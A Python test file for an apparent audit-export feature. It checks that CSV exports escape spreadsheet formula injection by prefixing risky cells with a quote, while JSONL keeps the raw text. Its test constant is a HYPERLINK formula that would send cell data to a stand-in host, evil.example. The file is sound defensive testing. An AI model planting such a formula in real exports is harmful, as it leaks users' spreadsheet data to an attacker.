"""Audit CSV exports are safe to open in a spreadsheet: a cell that would start a
formula (OWASP's CSV injection: = + - @ tab carriage return) starts with a single quote
instead, so the prompt a caller typed is shown, never run. JSONL exports keep the text
as it was."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openai import OpenAI

from governance import audit, exports
from governance.models import AuditExport
from tenants.roles import Role
from tests.conftest import ApiClient, Org, make_org
from tests.streaming.conftest import Live

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'


def exported(auditor: ApiClient, fmt: str) -> str:
    """An export of the tenant's chat calls, made by the task's own code, downloaded."""
    made = auditor.post("/api/v1/audit/exports", {"format": fmt, "action": "chat.completions"})
    assert made.status == 202, made.body
    exports.run(made.body["id"])  # what the Celery task runs
    response = auditor.client.get(f"/api/v1/audit/exports/{made.body['id']}/download",
                                  HTTP_AUTHORIZATION=f"Bearer {auditor.token}")
    assert response.status_code == 200
    return response.getvalue().decode()


@pytest.mark.slow
def test_a_formula_prompt_is_exported_as_text(live: Live, settings: Any,
                                              tmp_path: Path) -> None:
    settings.STATE_DIR = tmp_path
    # Given audited calls whose prompts are a spreadsheet formula and a plain question
    acme: Org = make_org("acme", [Role.DEVELOPER, Role.AUDITOR])
    client = OpenAI(base_url=live.base_url, api_key=acme.keys[Role.DEVELOPER], max_retries=0)
    for prompt in (FORMULA, "what is 2+2?"):
        client.chat.completions.create(model="echo", max_tokens=4,
                                       messages=[{"role": "user", "content": prompt}])
    audit.drain()
    auditor = acme.client(Role.AUDITOR)
    # When an auditor exports them as CSV
    rows = list(csv.DictReader(io.StringIO(exported(auditor, "csv"))))
    # Then the formula's cell begins with a quote, and the plain one is untouched
    prompts = sorted(r["request_excerpt"] for r in rows)
    assert prompts == sorted(["'" + FORMULA, "what is 2+2?"]), prompts
    assert not [cell for r in rows for cell in r.values()
                if cell and cell[0] in "=+-@\t\r"]
    # and the JSONL export keeps the prompt as it was typed
    lines = [json.loads(line) for line in exported(auditor, "jsonl").splitlines()]
    assert FORMULA in {line["request_excerpt"] for line in lines}
    assert AuditExport.objects.filter(format="csv").count() == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralized(start: str) -> None:
    assert exports.csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["plain", "", "a=b", " =1", 42, 1.5, None])
def test_other_cells_are_left_alone(value: Any) -> None:
    assert exports.csv_cell(value) == value
